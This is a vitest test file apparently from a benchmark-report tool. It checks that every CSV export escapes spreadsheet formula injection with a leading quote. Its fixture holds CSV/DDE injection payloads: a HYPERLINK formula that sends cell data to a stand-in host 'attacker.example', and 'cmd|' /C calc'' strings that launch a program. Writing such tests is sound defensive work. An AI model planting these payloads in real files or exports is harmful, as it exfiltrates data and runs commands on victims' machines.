// Issue 47, case 9: text that a spreadsheet would run as a formula (a cell beginning with =, +, -, @, tab or carriage
// return, OWASP's list) is written with a leading ' in every CSV the product writes: the runs and aggregate exports,
// `compare --format csv` and the site's downloads. Numbers stay numbers; Parquet keeps the raw values.
import {spawnSync} from "node:child_process";
import {readFileSync, writeFileSync} from "node:fs";
import {join} from "node:path";
import {parquetReadObjects} from "hyparquet";
import Papa from "papaparse";
import {afterAll, beforeAll, describe, expect, it} from "vitest";
import {loadStudy} from "../../loaders/analysis/report.js";
import {runsCsv} from "../../loaders/export/csv.js";
import {download} from "../../loaders/export/downloads.js";
import {copySeed, FAILED, removeCopies, SEED, VLLM} from "./hostile-study.js";

const FORMULAS = {
  gpu: '=HYPERLINK("http://attacker.example/?x="&A1,"open")',
  engine_version: "+1+cmd|' /C calc'!A0",
  error: "@SUM(1+1)*cmd|' /C calc'!A0",
  label: "-2+3+cmd|' /C calc'!A0",
  client: "\t=1+1",
  model: "\r=1+1"
};

let study: string;
beforeAll(() => {
  study = copySeed();
  const vllm = join(study, "runs", VLLM, "run.json");
  const meta = JSON.parse(readFileSync(vllm, "utf8"));
  Object.assign(meta, {gpu: FORMULAS.gpu, engine_version: FORMULAS.engine_version, client: FORMULAS.client});
  writeFileSync(vllm, JSON.stringify(meta, null, 2));
  const failed = join(study, "runs", FAILED, "run.json");
  const failedMeta = JSON.parse(readFileSync(failed, "utf8"));
  Object.assign(failedMeta, {error: FORMULAS.error, model: FORMULAS.model});
  writeFileSync(failed, JSON.stringify(failedMeta, null, 2));
  const plan = join(study, "study.yaml");
  const yaml = readFileSync(plan, "utf8");
  const label = /label: vLLM\b.*$/m.exec(yaml)![0];
  writeFileSync(
    plan,
    yaml
      .replace(label, `label: ${JSON.stringify(FORMULAS.label)}`)
      .replace("{name: vLLM, version: v0.11.0}", `{name: vLLM, version: ${JSON.stringify(FORMULAS.engine_version)}}`)
  );
});
afterAll(removeCopies);

function cli(...args: string[]): {status: number | null; stdout: string; stderr: string} {
  const run = spawnSync(process.execPath, ["bin/tps-report.js", ...args], {
    encoding: "utf8",
    env: {...process.env, TPS_REPORT_DEBUG: ""}
  });
  return {status: run.status, stdout: run.stdout, stderr: run.stderr};
}

const NUMBER = /^[-+]?(\d+\.?\d*|\.\d+)([eE][-+]?\d+)?$/;

/** Every cell of a CSV that a spreadsheet would read as a formula. */
function formulaCells(csv: string): string[] {
  const {data} = Papa.parse<string[]>(csv, {header: false});
  return data.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell) && !NUMBER.test(cell));
}

/** The cells holding one of the hostile values, as written. */
function hostileCells(csv: string): string[] {
  const {data} = Papa.parse<string[]>(csv, {header: false});
  return data.flat().filter((cell) => Object.values(FORMULAS).some((f) => cell.includes(f.trim().slice(1, 12))));
}

describe("the one CSV writer", () => {
  it("prefixes formula text with ' and leaves numbers, negative ones included, as they are", () => {
    const csv = runsCsv([
      {
        number: -1.5,
        numeric_text: "-1.5",
        exponent_text: "-2e-3",
        formula: "=1+1",
        plus: "+1+1",
        minus: "-x",
        at: "@x",
        tab: "\tx",
        cr: "\rx",
        broken: "=1+1\n=2+2",
        plain: "a=b",
        none: null
      }
    ]);
    expect(csv.split("\r\n")[1]).toBe(`-1.5,-1.5,-2e-3,"'=1+1","'+1+1","'-x","'@x","'\tx","'\rx","'=1+1\n=2+2",a=b,`);
  });
});

describe("hostile text in a study: GPU, engine version, client, model, label, error", () => {
  it("export --format csv: no formula cell; the hostile cells carry the '", () => {
    const run = cli("export", "--format", "csv", "--study", study);
    expect(run.status).toBe(0);
    expect(formulaCells(run.stdout)).toEqual([]);
    const cells = hostileCells(run.stdout);
    expect(cells).toContain(`'${FORMULAS.gpu}`);
    expect(cells).toContain(`'${FORMULAS.engine_version}`);
    expect(cells).toContain(`'${FORMULAS.error}`);
    expect(cells).toContain(`'${FORMULAS.label}`);
    expect(cells).toContain(`'${FORMULAS.model}`);
  });

  it("export --aggregate --format csv: no formula cell", () => {
    const run = cli("export", "--format", "csv", "--aggregate", "--study", study);
    expect(run.status).toBe(0);
    expect(formulaCells(run.stdout)).toEqual([]);
    expect(hostileCells(run.stdout)).toContain(`'${FORMULAS.label}`);
  });

  it("compare --format csv: no formula cell in the change and point records", () => {
    const run = cli("compare", study, SEED, "--across", "gpu", "--format", "csv");
    expect(formulaCells(run.stdout)).toEqual([]);
    const changes = Papa.parse<Record<string, string>>(run.stdout, {header: true}).data.filter((r) =>
      r.record?.startsWith("change:")
    );
    const detail = changes.find((r) => r.record === "change: engine version")!.detail;
    expect(detail.startsWith(`'${FORMULAS.engine_version} (runs: `), detail).toBe(true);
  });

  it("the site's downloads: runs.csv and aggregate.csv have no formula cell; Parquet keeps the raw values", async () => {
    const data = await loadStudy(study);
    for (const name of ["runs.csv", "aggregate.csv"] as const)
      expect(formulaCells(download(name, data) as string), name).toEqual([]);
    const parquet = download("runs.parquet", data) as Uint8Array;
    const file = parquet.buffer.slice(parquet.byteOffset, parquet.byteOffset + parquet.byteLength) as ArrayBuffer;
    const rows = (await parquetReadObjects({file})) as Record<string, unknown>[];
    expect(rows.find((r) => r.run === VLLM)!.gpu).toBe(FORMULAS.gpu);
    expect(rows.find((r) => r.run === FAILED)!.error).toBe(FORMULAS.error);
  });
});
